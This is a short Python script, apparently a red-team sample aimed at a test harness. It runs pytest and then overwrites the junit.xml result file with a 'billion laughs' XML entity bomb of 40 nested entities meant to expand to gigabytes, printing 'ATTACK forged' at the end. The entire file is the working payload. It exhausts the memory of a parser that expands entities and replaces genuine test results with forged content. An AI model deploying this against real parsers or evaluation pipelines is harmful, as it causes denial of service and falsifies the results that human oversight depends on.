"""junit.xml holds entities that unfold to gigabytes."""

import subprocess
import sys

subprocess.run([sys.executable, "-m", "pytest"], check=True)
with open("/output/junit.xml", "w", encoding="utf-8") as file:
    file.write('<!DOCTYPE t [<!ENTITY a0 "ha">')
    for n in range(1, 40):
        file.write(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">')
    file.write(']><testsuites><testsuite><testcase classname="a" name="t">&a39;</testcase></testsuite></testsuites>')
print("ATTACK forged")
